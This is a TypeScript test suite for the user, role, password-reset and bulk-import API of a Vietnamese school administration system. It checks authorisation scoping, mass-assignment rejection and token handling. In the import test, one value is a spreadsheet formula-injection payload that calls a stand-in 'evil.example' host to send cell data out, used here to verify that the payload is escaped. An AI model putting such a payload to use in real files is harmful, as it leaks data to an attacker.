import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { query } from '../src/db/client';
import { XLSX_MIME } from '../src/lib/upload';
import {
  cookieFrom,
  countRows,
  createTestContext,
  describeEachDb,
  type SeededUnit,
  type SeededUser,
  type Session,
  seedUnit,
  seedUser,
  signIn,
  TEST_PASSWORD,
  type TestContext,
} from './helpers';

type Method = 'GET' | 'POST' | 'PATCH' | 'DELETE';

describeEachDb('users and roles', (kind) => {
  let ctx: TestContext;
  let dept: SeededUnit;
  let commune: SeededUnit;
  let schoolA: SeededUnit;
  let schoolB: SeededUnit;
  let satelliteA: SeededUnit;
  let principalA: SeededUser;
  let teacherB: SeededUser;
  let principal: Session;
  let admin: Session;

  beforeAll(async () => {
    ctx = await createTestContext(kind);
    dept = await seedUnit(ctx.db, { typeCode: 'department', name: 'Sở GD&ĐT' });
    commune = await seedUnit(ctx.db, { parent: dept, typeCode: 'commune', name: 'UBND xã Hòa An' });
    schoolA = await seedUnit(ctx.db, { parent: commune, name: 'Trường Tiểu học A' });
    schoolB = await seedUnit(ctx.db, { parent: commune, name: 'Trường Tiểu học B' });
    satelliteA = await seedUnit(ctx.db, { parent: schoolA, typeCode: 'satellite', name: 'Điểm trường A1' });
    principalA = await seedUser(ctx, { unit: schoolA, roles: [{ roleCode: 'school_principal' }] });
    const deptAdmin = await seedUser(ctx, { unit: dept, roles: [{ roleCode: 'department_admin' }] });
    teacherB = await seedUser(ctx, { unit: schoolB, roles: [{ roleCode: 'teacher' }], mfa: false });
    await seedUser(ctx, { unit: schoolB, roles: [{ roleCode: 'school_data_clerk' }], mfa: false });
    await seedUser(ctx, { unit: satelliteA, roles: [{ roleCode: 'teacher' }], mfa: false });
    principal = await signIn(ctx.app, principalA);
    admin = await signIn(ctx.app, deptAdmin);
  });
  afterAll(() => ctx.close());

  const call = (session: Session | null, method: Method, url: string, payload?: unknown) =>
    ctx.app.inject({
      method,
      url,
      headers: session ? session.headers : { 'x-csrf-token': '1' },
      ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
    });

  const login = (username: string, password: string) =>
    ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'x-csrf-token': '1' },
      payload: { username, password },
    });

  const sessionOf = (response: LightMyRequestResponse): Session => {
    const cookie = cookieFrom(response);
    const csrf = response.json().csrfToken as string;
    return { cookie, csrf, headers: { cookie, 'x-csrf-token': csrf } };
  };

  const newClerk = async (username = `clerk_${crypto.randomUUID().slice(0, 8)}`) => {
    const res = await call(principal, 'POST', '/api/users', {
      username,
      fullName: 'Cán bộ nhập liệu',
      unitId: schoolA.id,
      roleCode: 'school_data_clerk',
      scope: 'subtree',
    });
    expect(res.statusCode).toBe(201);
    return res.json() as {
      user: { id: string; username: string; roles: { id: string }[] };
      oneTimePassword: string;
    };
  };

  const auditOf = (action: string, objectId: string) =>
    query<{ details: Record<string, unknown> | string; actor_id: string }>(
      ctx.db,
      sql`select details, actor_id from audit_log where action = ${action} and object_id = ${objectId}`,
    );

  describe('creating accounts: the cascade', () => {
    it('climbs the ladder: 401 → 400 → 404 (sibling, parent) → 403 (role above own) → 201', async () => {
      const body = {
        username: 'Clerk.A1',
        fullName: '  Nguyễn Thị Hoa '.normalize('NFD'),
        email: 'hoa@example.edu.vn',
        unitId: schoolA.id,
        roleCode: 'school_data_clerk',
        scope: 'subtree',
      };
      expect((await call(null, 'POST', '/api/users', body)).statusCode).toBe(401);
      expect((await call(principal, 'POST', '/api/users', { ...body, unitId: undefined })).statusCode).toBe(
        400,
      );
      const badName = await call(principal, 'POST', '/api/users', { ...body, username: 'ab' });
      expect(badName.statusCode).toBe(400);
      expect((await call(principal, 'POST', '/api/users', { ...body, roleCode: 'root' })).statusCode).toBe(
        400,
      );
      for (const unit of [schoolB, commune]) {
        const res = await call(principal, 'POST', '/api/users', { ...body, unitId: unit.id });
        expect(res.statusCode).toBe(404);
        expect(res.json().error.code).toBe('NOT_FOUND');
      }
      const above = await call(principal, 'POST', '/api/users', { ...body, roleCode: 'department_admin' });
      expect(above.statusCode).toBe(403);
      expect(above.json().error.code).toBe('ROLE_ABOVE_OWN');

      const created = await call(principal, 'POST', '/api/users', body);
      expect(created.statusCode).toBe(201);
      expect(created.headers['cache-control']).toBe('no-store');
      const { user, oneTimePassword } = created.json();
      expect(user).toMatchObject({
        username: 'clerk.a1',
        fullName: 'Nguyễn Thị Hoa',
        unitId: schoolA.id,
        status: 'active',
        mustChangePassword: true,
        roles: [{ roleCode: 'school_data_clerk', unitId: schoolA.id, scope: 'subtree' }],
      });
      expect(user).not.toHaveProperty('passwordHash');
      const [entry] = await auditOf('user.create', user.id);
      expect(entry?.actor_id).toBe(principalA.id);
      expect(JSON.stringify(entry?.details)).not.toContain(oneTimePassword);

      const again = await call(principal, 'POST', '/api/users', { ...body, username: 'CLERK.a1' });
      expect(again.statusCode).toBe(409);
      expect(again.json().error.code).toBe('USERNAME_TAKEN');
    });

    it('hands out a one-time password that works once and forces a password change', async () => {
      const created = await call(principal, 'POST', '/api/users', {
        username: 'otp.teacher',
        fullName: 'Giáo viên mới',
        unitId: schoolA.id,
        roleCode: 'teacher',
        scope: 'unit',
      });
      expect(created.statusCode).toBe(201);
      const { oneTimePassword } = created.json() as { oneTimePassword: string };
      const first = await login('otp.teacher', oneTimePassword);
      expect(first.statusCode).toBe(200);
      expect(first.json().pending).toBe('PASSWORD_CHANGE_REQUIRED');
      const teacher = sessionOf(first);
      const blocked = await call(teacher, 'GET', '/api/units');
      expect(blocked.statusCode).toBe(403);
      expect(blocked.json().error.code).toBe('PASSWORD_CHANGE_REQUIRED');
      const changed = await call(teacher, 'POST', '/api/auth/password', {
        currentPassword: oneTimePassword,
        newPassword: 'một mật khẩu mới rất riêng',
      });
      expect(changed.statusCode).toBe(200);
      expect(changed.json().pending).toBeNull();
      expect((await call(sessionOf(changed), 'GET', '/api/units')).statusCode).toBe(200);
      expect((await login('otp.teacher', oneTimePassword)).statusCode).toBe(401);
    });

    it('a role that requires MFA sends the new account to enrolment after the password change', async () => {
      const { user, oneTimePassword } = await newClerk();
      const s = sessionOf(await login(user.username, oneTimePassword));
      const changed = await call(s, 'POST', '/api/auth/password', {
        currentPassword: oneTimePassword,
        newPassword: 'một mật khẩu mới rất riêng',
      });
      expect(changed.json().pending).toBe('MFA_ENROLMENT_REQUIRED');
      expect((await call(sessionOf(changed), 'GET', '/api/users')).json().error.code).toBe(
        'MFA_ENROLMENT_REQUIRED',
      );
    });

    it('mass assignment: extra fields are refused and nothing changes', async () => {
      const before = await countRows(ctx.db, 'users');
      for (const extra of [
        { isAdmin: true },
        { status: 'disabled' },
        { passwordHash: 'x' },
        { mustChangePassword: false },
      ]) {
        const res = await call(principal, 'POST', '/api/users', {
          username: `mass_${Object.keys(extra)[0]!.toLowerCase()}`,
          fullName: 'Kẻ gian',
          unitId: schoolA.id,
          roleCode: 'teacher',
          scope: 'unit',
          ...extra,
        });
        expect(res.statusCode).toBe(400);
        expect(res.json().error.code).toBe('VALIDATION_FAILED');
      }
      expect(await countRows(ctx.db, 'users')).toBe(before);

      const { user } = await newClerk();
      for (const extra of [
        { isAdmin: true },
        { status: 'disabled' },
        { passwordHash: 'x' },
        { unitId: schoolB.id },
        { roles: [] },
      ]) {
        const res = await call(principal, 'PATCH', `/api/users/${user.id}`, {
          fullName: 'Tên mới',
          ...extra,
        });
        expect(res.statusCode).toBe(400);
      }
      const after = (await call(principal, 'GET', `/api/users/${user.id}`)).json();
      expect(after).toMatchObject({ fullName: 'Cán bộ nhập liệu', status: 'active', unitId: schoolA.id });

      const ok = await call(principal, 'PATCH', `/api/users/${user.id}`, {
        fullName: 'Tên mới',
        email: null,
      });
      expect(ok.statusCode).toBe(200);
      expect(ok.json().fullName).toBe('Tên mới');
      const [entry] = await auditOf('user.update', user.id);
      expect(entry?.details).toMatchObject({ fields: ['fullName'] });
    });
  });

  describe('reading accounts', () => {
    it('lists only users whose home unit is in scope, and counts only those', async () => {
      expect((await call(null, 'GET', '/api/users')).statusCode).toBe(401);
      expect((await call(principal, 'GET', '/api/users?pageSize=500')).statusCode).toBe(400);
      expect((await call(principal, 'GET', `/api/users?unitId=${schoolB.id}`)).statusCode).toBe(404);

      const res = await call(principal, 'GET', '/api/users?pageSize=200');
      expect(res.statusCode).toBe(200);
      expect(res.headers['cache-control']).toBe('no-store');
      const [inScope] = await query<{ n: number }>(
        ctx.db,
        sql`select count(*)::int as n from users where unit_id in (${schoolA.id}::uuid, ${satelliteA.id}::uuid)`,
      );
      const { items, total } = res.json() as { items: { unitId: string; username: string }[]; total: number };
      expect(total).toBe(inScope!.n);
      expect(items).toHaveLength(total);
      expect(items.every((u) => u.unitId === schoolA.id || u.unitId === satelliteA.id)).toBe(true);
      expect(items.map((u) => u.username)).not.toContain(teacherB.username);

      const page = (await call(principal, 'GET', '/api/users?pageSize=1&page=2')).json();
      expect(page.items).toHaveLength(1);
      expect(page.total).toBe(total);

      const satellite = (await call(principal, 'GET', `/api/users?unitId=${satelliteA.id}`)).json();
      expect(satellite.total).toBe(1);

      const all = (await call(admin, 'GET', '/api/users?pageSize=200')).json();
      expect(all.total).toBe(await countRows(ctx.db, 'users'));
    });

    it('searches username and full name ignoring accents and case', async () => {
      const res = await call(principal, 'POST', '/api/users', {
        username: 'duc.nguyen',
        fullName: 'Nguyễn Văn Đức',
        unitId: satelliteA.id,
        roleCode: 'teacher',
        scope: 'unit',
      });
      expect(res.statusCode).toBe(201);
      for (const q of ['nguyen van duc', 'ĐỨC', 'văn đ', 'DUC.NG']) {
        const found = (await call(principal, 'GET', `/api/users?q=${encodeURIComponent(q)}`)).json();
        expect(found.items.map((u: { username: string }) => u.username)).toContain('duc.nguyen');
      }
      const none = (await call(principal, 'GET', `/api/users?q=${encodeURIComponent('100%_')}`)).json();
      expect(none.total).toBe(0);
      // Search never reaches outside the scope.
      const outside = (await call(principal, 'GET', `/api/users?q=${teacherB.username}`)).json();
      expect(outside.total).toBe(0);
    });

    it('reads one user in scope; another unit’s user is 404', async () => {
      expect((await call(principal, 'GET', '/api/users/not-a-uuid')).statusCode).toBe(400);
      expect((await call(principal, 'GET', `/api/users/${teacherB.id}`)).statusCode).toBe(404);
      expect((await call(principal, 'GET', `/api/users/${crypto.randomUUID()}`)).statusCode).toBe(404);
      const own = await call(principal, 'GET', `/api/users/${principalA.id}`);
      expect(own.statusCode).toBe(200);
      expect(own.json().roles).toEqual([expect.objectContaining({ roleCode: 'school_principal' })]);
    });

    it('lists roles with what the caller may grant', async () => {
      const roles = (await call(principal, 'GET', '/api/roles')).json() as {
        code: string;
        grantable: boolean;
      }[];
      const grantable = Object.fromEntries(roles.map((r) => [r.code, r.grantable]));
      expect(grantable).toMatchObject({
        school_principal: true,
        school_data_clerk: true,
        teacher: true,
        commune_officer: false,
        department_admin: false,
        system_admin: false,
      });
    });
  });

  describe('disabling, enabling, roles', () => {
    it('disabling ends the user’s session on the very next request', async () => {
      const clerk = await seedUser(ctx, { unit: schoolA, roles: [{ roleCode: 'school_data_clerk' }] });
      const session = await signIn(ctx.app, clerk);
      expect((await call(session, 'GET', '/api/users')).statusCode).toBe(200);

      expect((await call(principal, 'POST', `/api/users/${principalA.id}/disable`)).json().error.code).toBe(
        'CANNOT_MODIFY_SELF',
      );
      expect((await call(principal, 'POST', `/api/users/${teacherB.id}/disable`)).statusCode).toBe(404);
      const disabled = await call(principal, 'POST', `/api/users/${clerk.id}/disable`);
      expect(disabled.statusCode).toBe(200);
      expect(disabled.json().status).toBe('disabled');
      expect((await call(session, 'GET', '/api/users')).statusCode).toBe(401);
      const sessions = await query(ctx.db, sql`select 1 from sessions where user_id = ${clerk.id}`);
      expect(sessions).toHaveLength(0);
      expect((await login(clerk.username, TEST_PASSWORD)).statusCode).toBe(401);

      expect((await call(principal, 'POST', `/api/users/${clerk.id}/enable`)).json().status).toBe('active');
      expect((await login(clerk.username, TEST_PASSWORD)).statusCode).toBe(200);
    });

    it('cannot act on a user who holds a role above the caller’s own', async () => {
      const officer = await seedUser(ctx, {
        unit: schoolA,
        roles: [{ roleCode: 'teacher' }, { roleCode: 'commune_officer', unit: commune }],
        mfa: false,
      });
      for (const path of ['disable', 'reset-link']) {
        const res = await call(principal, 'POST', `/api/users/${officer.id}/${path}`);
        expect(res.statusCode).toBe(403);
        expect(res.json().error.code).toBe('ROLE_ABOVE_OWN');
      }
      const denied = await query<{ outcome: string; details: { reason?: string } }>(
        ctx.db,
        sql`select outcome, details from audit_log where action = 'user.disable' and object_id = ${officer.id}`,
      );
      expect(denied).toEqual([
        expect.objectContaining({ outcome: 'denied', details: { reason: 'ROLE_ABOVE_OWN' } }),
      ]);
      expect((await call(admin, 'POST', `/api/users/${officer.id}/disable`)).statusCode).toBe(200);
    });

    it('a unit-only administrator cannot hand out whole-subtree reach', async () => {
      const unitOnly = await seedUser(ctx, {
        unit: schoolA,
        roles: [{ roleCode: 'school_principal', scope: 'unit' }],
      });
      const session = await signIn(ctx.app, unitOnly);
      const body = {
        username: 'scoped.teacher',
        fullName: 'Giáo viên',
        unitId: schoolA.id,
        roleCode: 'teacher',
      };
      const wide = await call(session, 'POST', '/api/users', { ...body, scope: 'subtree' });
      expect(wide.statusCode).toBe(403);
      expect(wide.json().error.code).toBe('SCOPE_ABOVE_OWN');
      expect((await call(session, 'POST', '/api/users', { ...body, scope: 'unit' })).statusCode).toBe(201);
      // The satellite under the school is outside a unit-only scope altogether.
      expect(
        (
          await call(session, 'POST', '/api/users', {
            ...body,
            username: 'sat.t',
            unitId: satelliteA.id,
            scope: 'unit',
          })
        ).statusCode,
      ).toBe(404);
    });

    it('grants roles within the cascade only', async () => {
      const { user } = await newClerk();
      const grant = { userId: user.id, roleCode: 'teacher', unitId: satelliteA.id, scope: 'unit' };
      expect((await call(null, 'POST', '/api/role-assignments', grant)).statusCode).toBe(401);
      expect(
        (await call(principal, 'POST', '/api/role-assignments', { ...grant, extra: 1 })).statusCode,
      ).toBe(400);
      expect(
        (await call(principal, 'POST', '/api/role-assignments', { ...grant, unitId: schoolB.id })).statusCode,
      ).toBe(404);
      expect(
        (await call(principal, 'POST', '/api/role-assignments', { ...grant, userId: teacherB.id }))
          .statusCode,
      ).toBe(404);
      const above = await call(principal, 'POST', '/api/role-assignments', {
        ...grant,
        roleCode: 'commune_officer',
      });
      expect(above.json().error.code).toBe('ROLE_ABOVE_OWN');
      const self = await call(principal, 'POST', '/api/role-assignments', {
        ...grant,
        userId: principalA.id,
      });
      expect(self.json().error.code).toBe('CANNOT_MODIFY_SELF');

      const created = await call(principal, 'POST', '/api/role-assignments', grant);
      expect(created.statusCode).toBe(201);
      expect(created.json()).toMatchObject({
        roleCode: 'teacher',
        unitId: satelliteA.id,
        unitName: 'Điểm trường A1',
      });
      expect((await auditOf('role.grant', created.json().id)).length).toBe(1);
      const duplicate = await call(principal, 'POST', '/api/role-assignments', grant);
      expect(duplicate.statusCode).toBe(409);
      expect(duplicate.json().error.code).toBe('ROLE_ALREADY_ASSIGNED');
    });

    it('revoking a role takes effect on the holder’s next request', async () => {
      const clerk = await seedUser(ctx, { unit: schoolA, roles: [{ roleCode: 'school_data_clerk' }] });
      const session = await signIn(ctx.app, clerk);
      expect((await call(session, 'GET', '/api/users')).statusCode).toBe(200);
      const view = (await call(principal, 'GET', `/api/users/${clerk.id}`)).json();
      const assignmentId = view.roles[0].id as string;

      const own = (await call(principal, 'GET', `/api/users/${principalA.id}`)).json().roles[0].id as string;
      expect((await call(principal, 'DELETE', `/api/role-assignments/${own}`)).json().error.code).toBe(
        'CANNOT_MODIFY_SELF',
      );
      const revoked = await call(principal, 'DELETE', `/api/role-assignments/${assignmentId}`);
      expect(revoked.statusCode).toBe(204);
      expect((await call(session, 'GET', '/api/users')).statusCode).toBe(403);
      expect((await call(principal, 'DELETE', `/api/role-assignments/${assignmentId}`)).statusCode).toBe(404);
      expect((await auditOf('role.revoke', assignmentId)).length).toBe(1);
    });

    it('cannot revoke a role ranked above the caller’s own, nor one at another unit', async () => {
      const officer = await seedUser(ctx, {
        unit: schoolA,
        roles: [{ roleCode: 'department_data_officer' }, { roleCode: 'teacher', unit: schoolB }],
        mfa: false,
      });
      const rows = await query<{ id: string; unit_id: string }>(
        ctx.db,
        sql`select id, unit_id from role_assignments where user_id = ${officer.id}`,
      );
      const atA = rows.find((r) => r.unit_id === schoolA.id)!.id;
      const atB = rows.find((r) => r.unit_id === schoolB.id)!.id;
      const above = await call(principal, 'DELETE', `/api/role-assignments/${atA}`);
      expect(above.statusCode).toBe(403);
      expect(above.json().error.code).toBe('ROLE_ABOVE_OWN');
      expect((await call(principal, 'DELETE', `/api/role-assignments/${atB}`)).statusCode).toBe(404);
      // The assignment at B is not even shown to A's principal.
      const shown = (await call(principal, 'GET', `/api/users/${officer.id}`)).json().roles;
      expect(shown.map((r: { unitId: string }) => r.unitId)).toEqual([schoolA.id]);
    });
  });

  describe('password reset links', () => {
    it('puts the token only in the #fragment; it works once and MFA still applies', async () => {
      const teacher = await seedUser(ctx, { unit: schoolA, roles: [{ roleCode: 'teacher' }], mfa: true });
      expect((await call(null, 'POST', `/api/users/${teacher.id}/reset-link`)).statusCode).toBe(401);
      expect((await call(principal, 'POST', `/api/users/${teacherB.id}/reset-link`)).statusCode).toBe(404);
      expect(
        (await call(principal, 'POST', `/api/users/${principalA.id}/reset-link`)).json().error.code,
      ).toBe('CANNOT_MODIFY_SELF');
      const first = (await call(principal, 'POST', `/api/users/${teacher.id}/reset-link`)).json();
      const res = await call(principal, 'POST', `/api/users/${teacher.id}/reset-link`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['cache-control']).toBe('no-store');
      const { resetUrl, expiresAt } = res.json() as { resetUrl: string; expiresAt: string };
      const url = new URL(resetUrl);
      expect(`${url.origin}${url.pathname}`).toBe(`${ctx.settings.publicUrl}/reset-password`);
      expect(url.search).toBe('');
      const token = new URLSearchParams(url.hash.slice(1)).get('token')!;
      expect(token.length).toBeGreaterThanOrEqual(40);
      expect(new Date(expiresAt).getTime() - Date.now()).toBeGreaterThan(23 * 3_600_000);
      const stored = await query<{ token_hash: string }>(
        ctx.db,
        sql`select token_hash from password_reset_tokens where user_id = ${teacher.id}`,
      );
      expect(stored.map((r) => r.token_hash)).not.toContain(token);
      const audit = await auditOf('user.reset_link', teacher.id);
      expect(audit).toHaveLength(2);
      expect(JSON.stringify(audit)).not.toContain(token);

      const complete = (t: string) =>
        ctx.app.inject({
          method: 'POST',
          url: '/api/auth/reset/complete',
          headers: { 'x-csrf-token': '1' },
          payload: { token: t, newPassword: 'cụm mật khẩu mới của cô giáo' },
        });
      const oldToken = new URLSearchParams(new URL(first.resetUrl).hash.slice(1)).get('token')!;
      expect((await complete(oldToken)).statusCode).toBe(400);
      expect((await complete(token)).statusCode).toBe(204);
      const reused = await complete(token);
      expect(reused.statusCode).toBe(400);
      expect(reused.json().error.code).toBe('RESET_LINK_INVALID');
      const signedIn = await login(teacher.username, 'cụm mật khẩu mới của cô giáo');
      expect(signedIn.statusCode).toBe(200);
      expect(signedIn.json().pending).toBe('MFA_REQUIRED');
    });
  });

  describe('bulk import', () => {
    const upload = (session: Session | null, file: Buffer, filename: string, dryRun: boolean) => {
      const boundary = `----edushield${crypto.randomUUID()}`;
      const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`;
      return ctx.app.inject({
        method: 'POST',
        url: `/api/users/import?dryRun=${dryRun}`,
        headers: {
          ...(session ? session.headers : { 'x-csrf-token': '1' }),
          'content-type': `multipart/form-data; boundary=${boundary}`,
        },
        payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)]),
      });
    };

    const sheet = async (rows: string[][]) => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Tài khoản');
      ws.addRow(['Tên đăng nhập', 'Họ và tên', 'Email', 'Mã đơn vị', 'Vai trò', 'Phạm vi']);
      for (const row of rows) ws.addRow(row);
      return Buffer.from(await wb.xlsx.writeBuffer());
    };

    const readXlsx = async (payload: Buffer) => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(payload as unknown as ExcelJS.Buffer);
      return wb;
    };

    it('serves a template with instructions, as an attachment', async () => {
      expect((await call(null, 'GET', '/api/users/import/template')).statusCode).toBe(401);
      const res = await call(principal, 'GET', '/api/users/import/template');
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe(XLSX_MIME);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="mau-nhap-tai-khoan\.xlsx"/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      const wb = await readXlsx(res.rawPayload);
      const header = (wb.getWorksheet('Tài khoản')!.getRow(1).values as string[]).slice(1);
      expect(header).toEqual(['Tên đăng nhập', 'Họ và tên', 'Email', 'Mã đơn vị', 'Vai trò', 'Phạm vi']);
      const help = wb.getWorksheet('Hướng dẫn')!;
      const texts: string[] = [];
      help.eachRow((row) => texts.push((row.values as unknown[]).filter(Boolean).join(' | ')));
      expect(texts).toContain('school_data_clerk | Cán bộ nhập liệu của trường | Có');
      expect(texts).toContain('commune_officer | Cán bộ xã/phường phụ trách giáo dục | Không');
      expect(texts).toContain('subtree | Toàn bộ đơn vị trực thuộc');
      expect(texts).toContain('unit | Chỉ đơn vị này');
    });

    it('dry run reports every bad row, out-of-scope units exactly like unknown ones, and writes nothing', async () => {
      const before = await countRows(ctx.db, 'users');
      const file = await sheet([
        ['imp.ok', 'Người Hợp Lệ', '', schoolA.code, 'teacher', ''],
        ['imp.unknown', 'Đơn vị lạ', '', 'KHONG_CO', 'teacher', ''],
        ['imp.outside', 'Đơn vị ngoài', '', schoolB.code, 'teacher', ''],
        ['imp.above', 'Vai trò cao', '', schoolA.code, 'Quản trị Sở GD&ĐT', ''],
        ['imp.dup', 'Trùng 1', '', schoolA.code, 'teacher', ''],
        ['IMP.DUP', 'Trùng 2', '', schoolA.code, 'teacher', ''],
        [principalA.username, 'Đã có', '', schoolA.code, 'teacher', ''],
        ['x', '', 'not-an-email', '', 'vua', 'toàn trường'],
      ]);
      expect((await upload(null, file, 'a.xlsx', true)).statusCode).toBe(401);
      const res = await upload(principal, file, 'tai-khoan.xlsx', true);
      expect(res.statusCode).toBe(200);
      const { dryRun, rows, errors } = res.json() as {
        dryRun: boolean;
        rows: { row: number; unitName: string | null }[];
        errors: { row: number; column: string; code: string; message: string }[];
      };
      expect(dryRun).toBe(true);
      expect(rows).toHaveLength(8);
      const at = (row: number) => errors.filter((e) => e.row === row).map((e) => `${e.column}:${e.code}`);
      expect(at(2)).toEqual([]);
      expect(at(3)).toEqual(['Mã đơn vị:IMPORT_UNIT_UNKNOWN']);
      expect(at(4)).toEqual(['Mã đơn vị:IMPORT_UNIT_UNKNOWN']);
      expect(rows.find((r) => r.row === 4)!.unitName).toBeNull();
      const unknown = errors.find((e) => e.row === 3)!;
      const outside = errors.find((e) => e.row === 4)!;
      expect(outside.message).toBe(unknown.message);
      expect(unknown.message).toMatch(/Không tìm thấy đơn vị/);
      expect(at(5)).toEqual(['Vai trò:ROLE_ABOVE_OWN']);
      expect(at(6)).toEqual([]);
      expect(at(7)).toEqual(['Tên đăng nhập:IMPORT_USERNAME_DUPLICATE']);
      expect(at(8)).toEqual(['Tên đăng nhập:USERNAME_TAKEN']);
      expect(at(9)).toEqual([
        'Tên đăng nhập:USERNAME_INVALID',
        'Họ và tên:IMPORT_VALUE_REQUIRED',
        'Email:EMAIL_INVALID',
        'Mã đơn vị:IMPORT_VALUE_REQUIRED',
        'Vai trò:IMPORT_ROLE_UNKNOWN',
        'Phạm vi:IMPORT_SCOPE_INVALID',
      ]);
      expect(await countRows(ctx.db, 'users')).toBe(before);

      const commit = await upload(principal, file, 'tai-khoan.xlsx', false);
      expect(commit.statusCode).toBe(400);
      expect(commit.json().error.code).toBe('IMPORT_ROWS_INVALID');
      expect(commit.json().error.details.errors.length).toBe(errors.length);
      expect(await countRows(ctx.db, 'users')).toBe(before);
    });

    it('answers row errors in the user’s language, for a CSV too', async () => {
      const setLocale = (locale: string) =>
        ctx.app.inject({
          method: 'PUT',
          url: '/api/auth/locale',
          headers: principal.headers,
          payload: { locale },
        });
      expect((await setLocale('en')).statusCode).toBe(204);
      const csv = `Username;Full name;Unit code;Role\nimp.csv;Tên;${schoolB.code};teacher\n`;
      const res = await upload(principal, Buffer.from(csv), 'users.csv', true);
      await setLocale('vi');
      expect(res.statusCode).toBe(200);
      expect(res.json().errors).toEqual([
        {
          row: 2,
          column: 'Unit code',
          code: 'IMPORT_UNIT_UNKNOWN',
          message: expect.stringMatching(/^No unit/),
        },
      ]);
    });

    it('refuses files of the wrong type or broken content with a clear code', async () => {
      const noFile = await ctx.app.inject({
        method: 'POST',
        url: '/api/users/import',
        headers: { ...principal.headers, 'content-type': 'application/json' },
        payload: {},
      });
      expect(noFile.statusCode).toBeGreaterThanOrEqual(400);
      expect(noFile.statusCode).toBeLessThan(500);
      const exe = await upload(principal, Buffer.from('MZ\0\0binary'), 'users.csv', true);
      expect(exe.statusCode).toBe(415);
      expect(exe.json().error.code).toBe('FILE_TYPE_UNSUPPORTED');
      const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(64)]);
      const locked = await upload(principal, ole, 'users.xlsx', true);
      expect(locked.statusCode).toBe(400);
      expect(locked.json().error.code).toBe('FILE_INVALID');
    });

    it('commits a good file in one go and returns working one-time passwords, formulas as text', async () => {
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
      const file = await sheet([
        ['imp.lan', 'Phạm Thị Lan', 'lan@example.edu.vn', schoolA.code, 'giao vien', 'Chỉ đơn vị này'],
        ['imp.evil', evil, '', satelliteA.code, 'CÁN BỘ NHẬP LIỆU CỦA TRƯỜNG', 'subtree'],
        ['imp.minh', '-Minh', '', schoolA.code, 'Staff', ''],
      ]);
      const before = await countRows(ctx.db, 'users');
      const res = await upload(principal, file, 'tai-khoan.xlsx', false);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe(XLSX_MIME);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tai-khoan-moi-\d{8}\.xlsx"/);
      expect(await countRows(ctx.db, 'users')).toBe(before + 3);

      const ws = (await readXlsx(res.rawPayload)).worksheets[0]!;
      const header = (ws.getRow(1).values as string[]).slice(1);
      expect(header).toEqual(['Tên đăng nhập', 'Họ và tên', 'Mã đơn vị', 'Vai trò', 'Mật khẩu dùng một lần']);
      const out = new Map<string, string[]>();
      ws.eachRow((row, n) => {
        if (n > 1)
          out.set(
            String(row.getCell(1).value),
            [2, 3, 4, 5].map((c) => String(row.getCell(c).value)),
          );
      });
      expect([...out.keys()]).toEqual(['imp.lan', 'imp.evil', 'imp.minh']);
      expect(out.get('imp.lan')!.slice(0, 3)).toEqual(['Phạm Thị Lan', schoolA.code, 'Giáo viên']);
      // Formula injection: the name comes back as quoted text, never as a formula cell.
      const evilCell = ws.getRow(3).getCell(2);
      expect(evilCell.type).toBe(ExcelJS.ValueType.String);
      expect(evilCell.value).toBe(`'${evil}`);
      expect(out.get('imp.minh')![0]).toBe("'-Minh");

      const lan = await login('imp.lan', out.get('imp.lan')![3]!);
      expect(lan.statusCode).toBe(200);
      expect(lan.json().pending).toBe('PASSWORD_CHANGE_REQUIRED');
      expect((await login('imp.evil', out.get('imp.evil')![3]!)).statusCode).toBe(200);

      const listed = (await call(principal, 'GET', '/api/users?q=imp.')).json();
      const byName = Object.fromEntries(
        listed.items.map(
          (u: { username: string; fullName: string; roles: { scope: string; roleCode: string }[] }) => [
            u.username,
            u,
          ],
        ),
      );
      expect(byName['imp.evil'].fullName).toBe(evil);
      expect(byName['imp.lan'].roles).toEqual([
        expect.objectContaining({ roleCode: 'teacher', scope: 'unit' }),
      ]);
      expect(byName['imp.evil'].roles).toEqual([
        expect.objectContaining({ roleCode: 'school_data_clerk', scope: 'subtree' }),
      ]);
      const audits = await query<{ n: number }>(
        ctx.db,
        sql`select count(*)::int as n from audit_log where action = 'user.create' and details->>'via' = 'import'`,
      );
      expect(audits[0]!.n).toBe(3);

      const again = await upload(principal, file, 'tai-khoan.xlsx', false);
      expect(again.statusCode).toBe(400);
      expect(await countRows(ctx.db, 'users')).toBe(before + 3);
    });
  });
});
